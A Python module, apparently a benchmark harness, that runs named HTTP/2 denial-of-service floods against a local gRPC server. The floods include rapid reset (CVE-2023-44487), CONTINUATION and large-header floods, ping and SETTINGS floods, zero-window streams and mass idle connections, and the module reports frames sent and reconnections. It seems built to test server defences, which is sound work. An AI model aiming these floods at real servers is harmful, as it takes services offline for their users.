"""Attacks: frames of HTTP/2 that no client would send, at a rate, until the time is over; a process of its own.

    python -m benchmarks.http2.attacks NAME PORT PATH SECONDS

What the server ends is opened again. At its end the process prints how often it had to connect, and what it sent.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import resource
import struct
import sys
import time
from collections.abc import Callable, Iterator
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
INITIAL_WINDOW: Final = 0x4
SLICE: Final = 0.02
"""Seconds between two bursts of an attack."""
LAST_STREAM: Final = 2**30

Frames = Callable[[int, bytes], bytes]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """Return a header as HPACK writes it without a table: each length in seven bits, or more after them."""
    return b"\x00" + _length(len(name)) + name + _length(len(value)) + value


def _length(count: int) -> bytes:
    if count < 127:
        return bytes((count,))
    out, rest = [127], count - 127
    while rest > 127:
        out.append(rest & 127 | 128)
        rest >>= 7
    return bytes((*out, rest))


def call(path: bytes) -> bytes:
    """Return the headers of a gRPC call."""
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"))
    return b"".join(
        _literal(name, value) for name, value in (*fields, (b"content-type", b"application/grpc"), (b"te", b"trailers"))
    )


def _rapid_reset(stream: int, path: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, call(path)) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def _endless_header(stream: int, path: bytes) -> bytes:
    kind, start = (HEADERS, call(path)) if stream == 1 else (CONTINUATION, b"")
    return frame(kind, 0, 1, start + _literal(b"x-a", b"a" * 8_000))


def _large_headers(stream: int, path: bytes) -> bytes:
    fields = b"".join(_literal(b"x-%d" % number, b"a" * 1_000) for number in range(7))
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, call(path) + fields)


def _pings(stream: int, _: bytes) -> bytes:
    return frame(PING, 0, 0, stream.to_bytes(8, "big"))


def _settings(_stream: int, _path: bytes) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 65_535))


def _empty_data(stream: int, path: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS, 1, call(path)) if stream == 1 else frame(DATA, 0, 1)


def _never_read(stream: int, path: bytes) -> bytes:
    """Return a call with an empty message, whose answer is never read: the client's window is 0."""
    window = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 0)) if stream == 1 else b""
    return window + frame(HEADERS, END_HEADERS, stream, call(path)) + frame(DATA, END_STREAM, stream, bytes(5))


ATTACKS: Final[dict[str, tuple[Frames, float, int]]] = {
    "rapid reset": (_rapid_reset, 4_000, 4),
    "header without end": (_endless_header, 400, 4),
    "large headers": (_large_headers, 400, 4),
    "pings": (_pings, 8_000, 4),
    "settings": (_settings, 8_000, 4),
    "empty data": (_empty_data, 8_000, 4),
    "answers never read": (_never_read, 400, 40),
}
"""By name: the frames of a step, steps a second, and connections. CVE-2023-44487, -2024-27316, -2019-9512, -9515, -9518
and -9517 are the first and the last five."""
IDLE: Final = "connections"
"""The attack of thousands of connections that say nothing."""
MOST_IDLE: Final = 5_000


class Attacker:
    """One attack on one port."""

    def __init__(self, name: str, port: int, path: bytes, seconds: float) -> None:
        self._name = name
        self._port = port
        self._path = path
        self._until = time.monotonic() + seconds
        self.sent = 0
        self.opened = 0

    async def run(self) -> None:
        """Attack until the time is over."""
        if self._name == IDLE:
            await self._hold(MOST_IDLE)
            return
        frames, rate, connections = ATTACKS[self._name]
        await asyncio.gather(*(self._flood(frames, rate / connections) for _ in range(connections)))

    async def _flood(self, frames: Frames, rate: float) -> None:
        while time.monotonic() < self._until:
            with contextlib.suppress(OSError):
                await self._one(frames, rate)
            await asyncio.sleep(SLICE)

    async def _one(self, frames: Frames, rate: float) -> None:
        """Use one connection until the server ends it or the time is over."""
        reader, writer = await asyncio.open_connection("127.0.0.1", self._port)
        self.opened += 1
        swallowed = asyncio.create_task(_swallow(reader))
        try:
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
            streams, begun, done = _streams(), time.monotonic(), 0
            while (now := time.monotonic()) < self._until and not swallowed.done():
                due = int((now - begun) * rate) - done
                writer.write(b"".join(frames(next(streams), self._path) for _ in range(due)))
                done += due
                self.sent += due
                async with asyncio.timeout(1):
                    await writer.drain()
                await asyncio.sleep(SLICE)
        except TimeoutError:  # the server does not read: that is a defence, too
            pass
        finally:
            swallowed.cancel()
            writer.transport.abort()

    async def _hold(self, most: int) -> None:
        writers = []
        for number in range(most):
            if time.monotonic() > self._until:
                break
            with contextlib.suppress(OSError):
                _, writer = await asyncio.open_connection("127.0.0.1", self._port)
                writer.write(PREFACE + frame(SETTINGS, 0, 0))
                writers.append(writer)
                self.opened += 1
            if number % 100 == 0:
                await asyncio.sleep(SLICE)
        await asyncio.sleep(max(0.0, self._until - time.monotonic()))
        for writer in writers:
            writer.transport.abort()


def _streams() -> Iterator[int]:
    return itertools.takewhile(lambda stream: stream < LAST_STREAM, itertools.count(1, 2))


async def _swallow(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(65_536):
            pass


async def main() -> None:
    """Attack, and print what was sent."""
    name, port, path, seconds = sys.argv[1:]
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attacker = Attacker(name, int(port), path.encode(), float(seconds))
    await attacker.run()
    print(json.dumps({"sent": attacker.sent, "opened": attacker.opened}), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
